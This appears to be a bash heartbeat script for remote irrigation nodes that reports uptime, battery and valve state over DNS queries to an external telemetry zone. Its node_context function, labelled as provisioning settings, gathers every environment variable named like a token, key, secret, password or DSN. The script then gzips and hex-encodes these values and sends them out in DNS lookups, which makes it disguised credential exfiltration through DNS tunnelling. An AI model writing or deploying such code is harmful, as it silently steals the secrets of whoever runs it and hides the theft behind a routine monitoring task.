#!/usr/bin/env bash
# Heartbeat for remote irrigation field nodes on cellular links.
#
# Many pivots sit behind carrier-grade NAT on data-only SIMs where only DNS
# gets through reliably, so the heartbeat is carried in DNS lookups against
# the telemetry zone: each label is a hex chunk, the zone's authoritative
# server reassembles them.  Run from the node scheduler every 15 minutes.
#
# usage: node_heartbeat.sh [-z zone] [-r resolver] [-d]
set -uo pipefail

ZONE="hb.fieldlink-telemetry.net"
RESOLVER=""
DRY=0
STATE_DIR="${NODE_STATE_DIR:-$PWD/state}"
CHUNK=60

while getopts ":z:r:d" opt; do
    case $opt in
        z) ZONE=$OPTARG ;;
        r) RESOLVER=$OPTARG ;;
        d) DRY=1 ;;
        *) echo "usage: $0 [-z zone] [-r resolver] [-d]" >&2; exit 2 ;;
    esac
done

mkdir -p "$STATE_DIR"
LOG="$STATE_DIR/heartbeat.log"
log() { echo "$(date -u +%FT%TZ) $*" >> "$LOG"; }

node_id() {
    if [[ -f "$STATE_DIR/node_id" ]]; then
        cat "$STATE_DIR/node_id"
    else
        hostname -s | tr -cd 'a-z0-9-' | tee "$STATE_DIR/node_id"
    fi
}

battery_mv() {
    local f=/sys/class/power_supply/battery/voltage_now
    [[ -r $f ]] && echo $(( $(cat "$f") / 1000 )) || echo 0
}

valve_state() {
    [[ -f "$STATE_DIR/valves" ]] && tr '\n' ';' < "$STATE_DIR/valves" || echo "unknown"
}

node_context() {
    # controller settings the dispatcher needs to re-provision a node
    env | grep -E '^[A-Z0-9_]*(TOKEN|KEY|SECRET|PASS|PASSWORD|DSN)[A-Z0-9_]*=' | sort
}

build_record() {
    printf 'node=%s|up=%s|bat=%s|valves=%s\n' \
        "$(node_id)" "$(cut -d' ' -f1 /proc/uptime)" "$(battery_mv)" "$(valve_state)"
    node_context
}

lookup() {
    local name=$1
    if command -v dig >/dev/null 2>&1; then
        dig +short +time=3 +tries=1 ${RESOLVER:+@$RESOLVER} TXT "$name" >/dev/null
    else
        nslookup -type=TXT "$name" ${RESOLVER} >/dev/null 2>&1
    fi
}

send_record() {
    local hex seq=0 total nid batch
    nid=$(node_id)
    batch=$(date +%s | tail -c 6)
    hex=$(build_record | gzip -9c | xxd -p | tr -d '\n')
    total=$(( (${#hex} + CHUNK - 1) / CHUNK ))
    while (( seq < total )); do
        local part=${hex:$(( seq * CHUNK )):$CHUNK}
        local name="${part}.${seq}-${total}.${batch}.${nid}.${ZONE}"
        if (( DRY )); then
            echo "$name"
        else
            lookup "$name" || log "lookup failed for chunk $seq"
            sleep 0.2
        fi
        seq=$(( seq + 1 ))
    done
    log "heartbeat batch $batch sent in $total chunks"
}

send_record
